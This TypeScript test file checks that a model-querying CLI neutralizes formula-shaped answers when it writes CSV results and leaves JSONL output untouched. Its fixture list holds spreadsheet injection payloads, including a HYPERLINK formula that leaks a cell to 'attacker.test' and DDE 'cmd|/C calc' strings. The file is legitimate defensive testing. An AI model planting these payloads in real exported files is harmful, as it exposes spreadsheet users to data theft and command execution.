/**
 * Spreadsheet safety end to end: a model whose answers look like formulas, through the real CLI and
 * SDK. The emulator only writes plain words, so a tiny Converse endpoint here replies with the text
 * after "Reply with: " in the prompt.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FAKE_AWS_ENV, readJsonl, runCli, workdir } from '../helpers/cli.js';

// Answers a spreadsheet would run, and a few it would not.
const ANSWERS = [
  '=HYPERLINK("http://attacker.test/?leak="&A2,"Click for details")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '-42',
  '+3.5',
  'A plain answer = fine',
];

let server: Server;
let url: string;

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => (body += chunk));
    req.on('end', () => {
      const request = JSON.parse(body) as { messages: Array<{ content: Array<{ text: string }> }> };
      const prompt = request.messages[0]?.content[0]?.text ?? '';
      const text = prompt.slice(prompt.indexOf('Reply with: ') + 'Reply with: '.length);
      res.writeHead(200, { 'content-type': 'application/json', 'x-amzn-requestid': 'test' });
      res.end(
        JSON.stringify({
          output: { message: { role: 'assistant', content: [{ text }] } },
          stopReason: 'end_turn',
          usage: { inputTokens: 5, outputTokens: 5, totalTokens: 10 },
          metrics: { latencyMs: 1 },
        }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

function input(dir: string, ext: 'csv' | 'jsonl'): string {
  const rows = ANSWERS.map((answer, i) => ({
    id: i === 0 ? '@first' : String(i + 1),
    note: answer,
    prompt: `Reply with: ${answer}`,
  }));
  const text =
    ext === 'jsonl'
      ? rows.map((row) => JSON.stringify(row)).join('\n')
      : [
          'id,note,prompt',
          ...rows.map((row) =>
            [row.id, row.note, row.prompt].map((cell) => `"${cell.replace(/"/g, '""')}"`).join(','),
          ),
        ].join('\n');
  writeFileSync(join(dir, `answers.${ext}`), text);
  return `answers.${ext}`;
}

function readCsv(path: string): Array<Record<string, string>> {
  return parse(readFileSync(path), { columns: true }) as Array<Record<string, string>>;
}

const env = () => ({ ...FAKE_AWS_ENV, AWS_ENDPOINT_URL_BEDROCK_RUNTIME: url });
const neutralized = (text: string) =>
  /^[=+\-@\t\r]/.test(text) && !/^[+-][\d.]+$/.test(text) ? `'${text}` : text;

describe('CSV results', () => {
  it('neutralize formula-looking responses and input cells by default', async () => {
    const dir = workdir();
    const result = await runCli([input(dir, 'csv')], { cwd: dir, env: env() });
    expect(result.code, result.stderr).toBe(0);
    const rows = readCsv(join(dir, 'answers.results.csv'));
    expect(rows.map((row) => row.response)).toEqual([
      '\'=HYPERLINK("http://attacker.test/?leak="&A2,"Click for details")',
      "'+cmd|' /C calc'!A0",
      '\'-2+3+cmd|"/C calc"!A0',
      '\'@SUM(1+1)*cmd|" /C calc"!A0',
      "'\t=1+1",
      '-42',
      '+3.5',
      'A plain answer = fine',
    ]);
    expect(rows.map((row) => row.note)).toEqual(ANSWERS.map(neutralized));
    expect(rows[0]?.input_id).toBe("'@first");
    expect(rows[0]?.id).toBe("'@first");
    // The rest of the record is untouched.
    for (const row of rows)
      expect(row).toMatchObject({ status: 'ok', input_tokens: '5', output_tokens: '5' });
  });

  it.each([
    ['--no-csv-safe', ['--no-csv-safe']],
    ['csv-safe: false in a job file', ['run', '--job', 'job.yaml']],
  ])('are written as they are with %s', async (_, args) => {
    const dir = workdir();
    const name = input(dir, 'csv');
    writeFileSync(join(dir, 'job.yaml'), `input: ${name}\ncsv-safe: false\n`);
    const result = await runCli(args[0] === 'run' ? args : [name, ...args], { cwd: dir, env: env() });
    expect(result.code, result.stderr).toBe(0);
    const rows = readCsv(join(dir, 'answers.results.csv'));
    expect(rows.map((row) => row.response)).toEqual(ANSWERS);
    expect(rows.map((row) => row.note)).toEqual(ANSWERS);
  });
});

describe('JSONL results', () => {
  it('are left as they are', async () => {
    const dir = workdir();
    const result = await runCli([input(dir, 'jsonl')], { cwd: dir, env: env() });
    expect(result.code, result.stderr).toBe(0);
    const rows = readJsonl(join(dir, 'answers.results.jsonl'));
    expect(rows.map((row) => row.response)).toEqual(ANSWERS);
    expect(rows.map((row) => (row.input as Record<string, string>).note)).toEqual(ANSWERS);
    expect(rows[0]?.id).toBe('@first');
  });
});
